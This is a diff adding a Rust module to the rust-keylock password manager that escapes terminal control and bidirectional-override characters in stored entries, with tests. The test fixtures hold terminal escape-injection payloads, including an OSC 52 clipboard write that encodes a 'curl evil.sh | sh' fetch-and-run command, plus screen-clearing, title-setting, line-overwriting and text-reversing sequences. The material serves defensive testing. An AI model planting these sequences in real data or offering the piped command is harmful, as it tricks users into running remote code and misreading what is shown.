@@ -0,0 +1,129 @@
+// Copyright 2017 astonbitecode
+// This file is part of rust-keylock password manager.
+//
+// rust-keylock is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// rust-keylock is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with rust-keylock.  If not, see <http://www.gnu.org/licenses/>.
+//! Makes the fields of the Entries safe to print.
+//!
+//! Entries may come from imported files and synchronisation targets, so their fields are not trusted. The terminal
+//! interprets the control characters they may contain: escape sequences can move the cursor and rewrite what is presented,
+//! set the title of the window or write to the clipboard (OSC 52). They are printed as visible escapes, like `\x1b`.
+use std::borrow::Cow;
+
+/// The characters that change the direction of the text, which can make it read differently than it is stored
+const BIDI_CONTROLS: &[char] = &['\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}',
+    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}'];
+
+/// Escapes the control characters of text that is printed in one line
+pub(crate) fn line(text: &str) -> Cow<'_, str> {
+    escape(text, |_| false)
+}
+
+/// Escapes the control characters of text that may span many lines, like a description. Line feeds and tabs are kept.
+pub(crate) fn lines(text: &str) -> Cow<'_, str> {
+    escape(text, |c| c == '\n' || c == '\t')
+}
+
+fn escape<F>(text: &str, allowed: F) -> Cow<'_, str>
+    where F: Fn(char) -> bool
+{
+    let unsafe_char = |c: char| (c.is_control() || BIDI_CONTROLS.contains(&c)) && !allowed(c);
+    if !text.chars().any(unsafe_char) {
+        return Cow::Borrowed(text);
+    }
+    let mut escaped = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        if !unsafe_char(c) {
+            escaped.push(c);
+            continue;
+        }
+        match c {
+            '\n' => escaped.push_str("\\n"),
+            '\r' => escaped.push_str("\\r"),
+            '\t' => escaped.push_str("\\t"),
+            c if (c as u32) < 0x100 => escaped.push_str(&format!("\\x{:02x}", c as u32)),
+            c => escaped.push_str(&format!("\\u{{{:04x}}}", c as u32)),
+        }
+    }
+    Cow::Owned(escaped)
+}
+
+#[cfg(test)]
+pub(crate) mod test_sanitize {
+    use rust_keylock::{Entry, EntryMeta};
+
+    fn entry(name: &str, url: &str, user: &str, pass: &str, desc: &str) -> Entry {
+        Entry::new(name.to_string(), url.to_string(), user.to_string(), pass.to_string(), desc.to_string(), EntryMeta::default())
+    }
+
+    /// Entries with fields that try to take over the terminal
+    pub(crate) fn malicious_entries() -> Vec<Entry> {
+        vec![
+            // Writes to the clipboard
+            entry("mail\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+                  "https://mail.example.com",
+                  "user",
+                  "pass",
+                  "desc"),
+            // Sets the title of the window and clears the screen
+            entry("bank",
+                  "\x1b]0;rust-keylock\x1b\\https://bank.example.com\x1b[2J\x1b[H",
+                  "user",
+                  "pass",
+                  "desc"),
+            // The C1 variant of the Control Sequence Introducer and a carriage return that overwrites the line
+            entry("shop",
+                  "https://shop.example.com",
+                  "admin\u{9b}1;31m\rroot",
+                  "pass\x08\x08\x08\x08****",
+                  "desc"),
+            // Reverses the text and hides an escape in a description of many lines
+            entry("moc.elpmaxe\u{202e}",
+                  "https://example.com",
+                  "user",
+                  "pass",
+                  "first line\n\tsecond\x1bc line\x7f"),
+        ]
+    }
+
+    fn is_safe(text: &str) -> bool {
+        !text.chars().any(|c| (c.is_control() && c != '\n' && c != '\t') || super::BIDI_CONTROLS.contains(&c))
+    }
+
+    #[test]
+    fn malicious_entries_are_escaped() {
+        for entry in malicious_entries() {
+            for field in [&entry.name, &entry.url, &entry.user, &entry.pass] {
+                let sanitized = super::line(field);
+                assert!(is_safe(&sanitized) && !sanitized.contains(['\n', '\t']), "{:?} is not safe", sanitized);
+            }
+            assert!(is_safe(&super::lines(&entry.desc)));
+        }
+    }
+
+    #[test]
+    fn escapes_are_visible() {
+        let entries = malicious_entries();
+        assert!(super::line(&entries[0].name) == "mail\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
+        assert!(super::line(&entries[2].user) == "admin\\x9b1;31m\\rroot");
+        assert!(super::line(&entries[3].name) == "moc.elpmaxe\\u{202e}");
+        assert!(super::lines(&entries[3].desc) == "first line\n\tsecond\\x1bc line\\x7f");
+        assert!(super::line("line\nfeed\ttab") == "line\\nfeed\\ttab");
+    }
+
+    #[test]
+    fn plain_text_is_not_copied() {
+        assert!(matches!(super::line("https://example.com/ä?q=1"), std::borrow::Cow::Borrowed(_)));
+        assert!(matches!(super::lines("first\nsecond"), std::borrow::Cow::Borrowed(_)));
+    }
+}